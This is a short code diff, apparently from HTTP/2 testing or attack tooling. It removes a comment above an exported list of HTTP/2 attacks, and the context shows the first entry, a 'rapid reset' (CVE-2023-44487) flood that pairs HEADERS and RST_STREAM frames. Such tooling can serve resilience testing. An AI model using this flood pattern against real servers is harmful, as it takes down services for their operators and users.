@@ -63,7 +63,6 @@ function varint(value: number): Buffer {
   return Buffer.from([(value & 0x7f) | 0x80, value >> 7]);
 }
 
-/** Attacks that hold or fill HTTP/2 connections. */
 export const http2Attacks: readonly Attack[] = [
   flooding("rapid reset (CVE-2023-44487)", 20, 40_000, (i) =>
     Buffer.concat([frame(1, 5, 2 * i + 1, get), frame(3, 0, 2 * i + 1, "\0\0\0\x08")]),
